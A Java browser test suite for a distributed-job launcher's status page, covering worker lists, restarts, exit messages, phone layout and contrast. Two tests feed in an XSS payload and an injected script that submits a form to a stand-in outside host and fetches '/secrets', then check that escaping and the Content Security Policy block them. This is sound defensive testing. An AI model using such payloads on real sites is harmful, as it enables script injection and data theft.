package dev.rendezvous.launcher;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rendezvous.launcher.browser.Browser;
import dev.rendezvous.launcher.browser.RequiresBrowser;
import dev.rendezvous.testkit.FreePort;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a person sees of real agents in a real browser. */
@EnabledOnOs(OS.LINUX)
@RequiresBrowser
@Tag("processes")
class WebPageTest {

    private static final String HARM = "<img src=x onerror=\"window.harm=1\">";
    private static final int SHORT_MILLIS = 300;

    @TempDir
    private static Path folder;

    private static Browser browser;

    @BeforeAll
    static void start() throws Exception {
        browser = Browser.start(folder);
    }

    @AfterAll
    static void stop() throws Exception {
        browser.close();
    }

    private static AgentProcess agent(Map<String, String> more, String script) throws Exception {
        Map<String, String> options = new HashMap<>(Map.of("RUN_ID", "job", "HTTP", "0", "RESTART_BACKOFF", "10ms"));
        options.putAll(more);
        return AgentProcess.start(options, script);
    }

    private static Map<String, String> standalone(String... more) {
        Map<String, String> options = new HashMap<>(Map.of("STANDALONE", "1"));
        for (int i = 0; i < more.length; i += 2) {
            options.put(more[i], more[i + 1]);
        }
        return options;
    }

    /** {@return the address of the page, which is open} */
    private static String open(AgentProcess agent) throws Exception {
        String base = agent.await(1, "status pages at (http://127.0.0.1:\\d+)").get(0);
        browser.open(base + "/");
        return base;
    }

    private static List<String> rows(String id) throws Exception {
        return browser.run("return document.getElementById('" + id + "').innerText.replaceAll('\\t', ' | ')")
                .lines()
                .toList();
    }

    @Test
    void membersAppear() throws Exception {
        Map<String, String> options = standalone("PROCS_PER_NODE", "2", "NODE_ID", "n1", "LABEL", "rack=r7");
        try (AgentProcess agent = agent(options, "echo pid $$; exec sleep 100")) {
            open(agent);
            List<String> pids = agent.await(2, "pid (\\d+)");

            assertThat(browser.text("nodes", "in the round"))
                    .contains("n1", "this node", "0–1", "127.0.0.1", "rack=r7");
            assertThat(browser.text("workers", "running")).contains(pids);
            assertThat(browser.text("phase", "running")).isEqualTo("running");
            assertThat(browser.run("return document.title")).contains("running", "job");
        }
    }

    @Test
    void killedWorkerGivesASecondRound() throws Exception {
        try (AgentProcess agent = agent(standalone("MAX_RESTARTS", "4"), "echo pid $$; exec sleep 100")) {
            open(agent);
            browser.text("rounds", "running");
            new ProcessBuilder("kill", "-KILL", agent.await(1, "pid (\\d+)").get(0))
                    .start()
                    .waitFor();

            assertThat(browser.text("rounds", "failed"))
                    .contains("rank 0 failed: exit 137 (KILL)", "a worker failed", "the run began");
            browser.text("rounds", "running");
            assertThat(browser.run("return '' + document.querySelectorAll('#line .piece:not(.pause)').length"))
                    .isEqualTo("2");
            assertThat(browser.run("return document.getElementById('line').ariaLabel"))
                    .startsWith("Time line: 2 rounds since ")
                    .contains("the last: running");
            assertThat(browser.run("return document.getElementById('figures').innerText"))
                    .containsPattern("Restarts\\s+1 of 4");
        }
    }

    @Test
    void textOfTheJobIsNeverHtml() throws Exception {
        Map<String, String> options =
                standalone("RUN_ID", HARM, "NODE_ID", HARM, "LABEL", HARM.replace("=", "") + "=" + HARM);
        options.put("MAX_RESTARTS", "1");
        String script = "[ $RDZV_RESTARTS = 1 ] && exec sleep 100; echo '" + HARM + "' >&2; exit 3";
        try (AgentProcess agent = agent(options, script)) {
            open(agent);

            assertThat(browser.text("nodes", "=" + HARM)).contains(HARM + "\t");
            assertThat(browser.text("rounds", HARM)).contains("exit 3");
            assertThat(browser.text("run", HARM)).isEqualTo(HARM);
            assertThat(browser.run("return typeof window.harm + document.querySelectorAll('img').length"))
                    .isEqualTo("undefined0");
        }
    }

    @Test
    void policyStopsScriptsThatGetIn() throws Exception {
        String attack = """
                window.stopped = [];
                document.addEventListener('securitypolicyviolation', event => window.stopped.push(event.effectiveDirective));
                document.body.insertAdjacentHTML('beforeend', '%s<form action="http://stranger.invalid/"></form>');
                const script = document.createElement('script');
                script.text = 'window.harm = 2';
                document.body.append(script);
                fetch('http://127.0.0.1:%d/secrets').catch(() => {});
                document.forms[0].submit();
                return ''""";
        try (ServerSocket stranger = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
                AgentProcess agent = agent(standalone(), "exec sleep 100")) {
            open(agent);
            browser.run(attack.formatted(HARM, stranger.getLocalPort()));

            browser.await("return window.stopped.join(' ')", "connect-src");
            assertThat(browser.await("return window.stopped.join(' ')", "form-action"))
                    .contains("script-src-attr", "script-src-elem");
            assertThat(browser.run("return typeof window.harm")).isEqualTo("undefined");
            assertThat(isCalled(stranger)).isFalse();
        }
    }

    private static boolean isCalled(ServerSocket server) throws Exception {
        server.setSoTimeout(SHORT_MILLIS);
        try {
            server.accept().close();
            return true;
        } catch (SocketTimeoutException notCalled) {
            return false;
        }
    }

    @Test
    void noRequestLeavesTheOrigin() throws Exception {
        try (AgentProcess agent = agent(standalone(), "exec sleep 100")) {
            String base = open(agent);
            browser.text("phase", "running");

            List<String> requests = browser.requests();
            assertThat(requests).contains(base + "/", base + "/page.js", base + "/page.css", base + "/status");
            assertThat(requests).allMatch(url -> url.startsWith(base + "/") || url.startsWith("data:"));
        }
    }

    @ParameterizedTest
    @CsvSource({"0, done, 0", "3, ended with exit code 3, 3"})
    void pageShowsHowTheAgentEnded(String code, String words, int exitCode) throws Exception {
        Path go = folder.resolve("go" + code);
        try (AgentProcess agent =
                agent(standalone(), "while ! [ -e " + go + " ]; do sleep 0.05; done; echo oops >&2; exit " + code)) {
            open(agent);
            browser.text("phase", "running");
            assertThat(go.toFile().createNewFile()).isTrue();

            assertThat(agent.exitCode()).isEqualTo(exitCode);
            assertThat(browser.text("gone", "The agent has ended")).contains("what it showed last");
            assertThat(browser.text("phase", words)).isEqualTo(words);
        }
    }

    @Test
    void pageSaysThatAKilledAgentIsGone() throws Exception {
        try (AgentProcess agent = agent(standalone("NODE_ID", "n1"), "exec sleep 100")) {
            open(agent);
            browser.text("nodes", "in the round");
            agent.signal("KILL");

            assertThat(browser.text("gone", "does not answer")).contains("what it showed last");
            assertThat(browser.text("phase", "no answer")).isEqualTo("no answer");
            assertThat(rows("nodes")).anyMatch(row -> row.startsWith("n1 | "));
        }
    }

    @Test
    void waitingMissingAndSpareNodesAreNamed() throws Exception {
        String endpoint = "127.0.0.1:" + FreePort.find();
        Map<String, String> host = new HashMap<>(Map.of("NODES", "2", "ENDPOINT", endpoint, "RANK_BY", "id"));
        host.putAll(Map.of("HEARTBEAT", "500ms", "LEASE", "3s", "NODE_ID", "a"));
        Map<String, String> guest = new HashMap<>(host);
        guest.put("BACKEND_OPT", "serve=no");
        try (AgentProcess first = agent(host, "exec sleep 100")) {
            open(first);
            assertThat(browser.text("nodes", "a")).contains("there");
            assertThat(browser.text("phase", "waiting")).isEqualTo("waiting for nodes");
            guest.put("NODE_ID", "b");
            try (AgentProcess second = agent(guest, "exec sleep 100")) {
                browser.text("phase", "running");
                guest.put("NODE_ID", "c");
                try (AgentProcess third = agent(guest, "exec sleep 100")) {
                    browser.text("nodes", "c\t◌ waits");
                    open(third);
                    browser.text("phase", "spare");
                    open(first);
                    third.signal("TERM");
                    assertThat(third.exitCode()).isEqualTo(143);
                }
                second.signal("KILL");
            }
            assertThat(browser.text("absent", "Missing")).contains("b");
            assertThat(rows("nodes")).anyMatch(row -> row.matches("b \\| ✗ missing \\|.*"));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"light", "dark"})
    void pageFitsAPhone(String scheme) throws Exception {
        String label = Stream.generate(() -> "long").limit(40).reduce("key=", String::concat);
        try (AgentProcess agent = agent(standalone("NODE_ID", "n".repeat(60), "LABEL", label), "exec sleep 100")) {
            browser.show(360, 700, scheme);
            open(agent);
            browser.text("phase", "running");
            browser.text("nodes", "long");

            assertThat(browser.run("return '' + document.documentElement.scrollWidth"))
                    .isEqualTo("360");
            assertThat(browser.run(LEAST_CONTRAST))
                    .as("the least contrast is good")
                    .isEqualTo("good");
        }
    }

    /** The W3C's rule for contrast, on the text of each element and its first background that is not transparent. */
    private static final String LEAST_CONTRAST = """
            const parts = text => text.match(/[0-9.]+/g).map(Number);
            const light = text => parts(text).slice(0, 3).map(part => part / 255)
              .map(part => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4)
              .reduce((sum, part, i) => sum + part * [0.2126, 0.7152, 0.0722][i], 0);
            const ground = element => {
              const colour = getComputedStyle(element).backgroundColor;
              return parts(colour)[3] === 0 ? ground(element.parentElement) : colour;
            };
            for (const element of document.querySelectorAll('body *')) {
              if ([...element.childNodes].some(node => node.nodeType === 3 && node.data.trim()) && element.checkVisibility()) {
                const pair = [light(getComputedStyle(element).color), light(ground(element))].sort((a, b) => b - a);
                const contrast = (pair[0] + 0.05) / (pair[1] + 0.05);
                if (contrast < 4.5) {
                  return element.outerHTML + ' has ' + contrast;
                }
              }
            }
            return 'good'""";
}
